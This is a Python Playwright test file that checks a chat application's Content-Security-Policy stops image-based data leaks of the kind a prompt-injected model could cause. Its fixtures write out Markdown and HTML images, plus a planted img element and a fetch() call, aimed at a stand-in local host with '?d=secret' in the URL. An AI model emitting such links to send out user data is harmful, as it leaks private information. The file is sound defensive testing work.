"""Issue 58 item 4: nothing a model or a person wrote makes the chat's page load another host.

A second HTTP server on another port of the same host stands for the host a
prompt-injected model sends data to: it records every request it gets. A plain
page showing an ``<img>`` of it makes it see one (so the test can see a leak);
the chat, showing the same images in a pause question, in the "waits for your
answer" line and in a team's reply, makes it see none. The chat's policy stops
an image of that host wherever one got into the page: in a person's own message
(which their browser renders as they typed it), or planted by a script.
"""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from devfactory.teams.registry import load_teams
from tests.browser.conftest import pick_profile, send, sign_in
from tests.browser.models import SAY

Shot = Callable[[Page, str], Path]

# Every securitypolicyviolation a page reports, kept where the test can read it.
VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(
  {directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample,
   source: e.sourceFile, line: e.lineNumber}));
"""


class Elsewhere:
    """An HTTP server of another origin that records the paths it is asked for."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        seen = self.seen

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def images(self, name: str, image: str = "![") -> str:
        """Return Markdown showing images of this host three ways, each named after ``name``."""
        return (
            f"{image}{name}-inline]({self.base}/{name}-inline.png?d=secret) "
            f'<img src="{self.base}/{name}-html.png?d=secret"> '
            f"{image}{name}-ref][{name}]\n\n[{name}]: {self.base}/{name}-ref.png?d=secret"
        )


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    """Run the other host for one test."""
    host = Elsewhere()
    yield host
    host.server.shutdown()
    host.server.server_close()


# What the policy refuses on purpose: react-remove-scroll-bar's style under an open menu,
# whose text holds the scrollbar's width (so no hash can name it); only cosmetic.
SCROLL_LOCK = ".with-scroll-bars-hidden"


def watched(browser: Browser, base: str, name: str) -> Page:
    """Sign ``name`` in, in a context whose pages record their policy violations."""
    page = sign_in(browser, base, name)
    page.context.add_init_script(VIOLATIONS)
    page.reload()
    expect(page.get_by_text(f"Signed in as {name}")).to_be_visible()
    return page


def violations(page: Page) -> list[dict[str, Any]]:
    """Return the policy violations the page reported since it loaded, but the scroll lock's."""
    found: list[dict[str, Any]] = page.evaluate("window.__violations || []")
    return [v for v in found if not str(v["sample"]).startswith(SCROLL_LOCK)]


def plain_page_loads(context: BrowserContext, url: str) -> None:
    """Show ``<img src=url>`` in a page without the chat's policy (the test's control)."""
    page = context.new_page()
    page.set_content(f'<img id="control" src="{url}">')
    page.wait_for_function("document.getElementById('control').complete")
    page.close()


def test_images_in_a_pause_question_and_a_team_reply_load_nothing(
    browser: Browser, chat_server: str, elsewhere: Elsewhere, shots: Shot
) -> None:
    """Issue 58 item 4: a pause question and a team's reply holding images fetch nothing."""
    olga = watched(browser, chat_server, "olga")
    plain_page_loads(olga.context, f"{elsewhere.base}/control.png")
    assert elsewhere.seen == ["/control.png"]  # the harness sees an image that loads
    send(olga, f"A REST API for patient notes {elsewhere.images('pause')}")
    expect(olga.get_by_text("Requirement: A REST API for patient notes")).to_be_visible()
    alice = watched(browser, chat_server, "alice")  # the approver: the question, not her text
    expect(alice.get_by_text("waits for your answer: A REST API for patient notes")).to_be_visible()
    expect(alice.get_by_text("Requirement: A REST API for patient notes")).to_be_visible()
    expect(alice.get_by_role("link", name="pause-inline").first).to_be_visible()  # its text
    spec = load_teams()["backend-engineering"]
    pick_profile(alice, spec.name)
    expect(alice.get_by_text(f"You are talking to the {spec.name} team")).to_be_visible()
    send(alice, SAY + "Our logo: " + elsewhere.images("reply", image="IMG["))
    expect(alice.get_by_role("link", name="reply-ref")).to_have_count(2)  # hers and the reply's
    alice.wait_for_timeout(1_500)  # time enough for an image that would load to be asked for
    shots(olga, "pause-question")
    shots(alice, "team-reply")
    assert alice.locator(f'img[src^="{elsewhere.base}"]').count() == 0
    assert violations(alice) == []  # Chainlit's page runs under the policy
    # olga's own message is Markdown her browser renders as she typed it: the policy stops it
    blocked = {(v["directive"], v["blocked"].split("?")[0]) for v in violations(olga)}
    assert blocked == {
        ("img-src", f"{elsewhere.base}/pause-inline.png"),
        ("img-src", f"{elsewhere.base}/pause-ref.png"),
    }
    assert elsewhere.seen == ["/control.png"]
    olga.context.close()
    alice.context.close()


def test_the_chats_policy_stops_an_image_of_another_host_that_reached_the_page(
    browser: Browser, chat_server: str, elsewhere: Elsewhere
) -> None:
    """Issue 58 item 4: the page's CSP is a second lock (img-src 'self' data:)."""
    policy = httpx.get(f"{chat_server}/login", timeout=30).headers["content-security-policy"]
    assert "img-src 'self' data:" in policy and "connect-src 'self'" in policy
    page = watched(browser, chat_server, "vic")
    plain_page_loads(page.context, f"{elsewhere.base}/control.png")
    assert elsewhere.seen == ["/control.png"]
    page.evaluate(
        """(url) => new Promise((done) => {
             const img = document.createElement("img");
             img.onload = img.onerror = () => done();
             img.src = url;
             document.body.append(img);
           })""",
        f"{elsewhere.base}/planted.png",
    )
    page.evaluate("(url) => fetch(url).catch(() => null)", f"{elsewhere.base}/fetched")
    page.wait_for_timeout(500)
    assert elsewhere.seen == ["/control.png"]
    blocked = {(v["directive"], v["blocked"].split("?")[0]) for v in violations(page)}
    assert blocked == {
        ("img-src", f"{elsewhere.base}/planted.png"),
        ("connect-src", f"{elsewhere.base}/fetched"),
    }
    page.context.close()
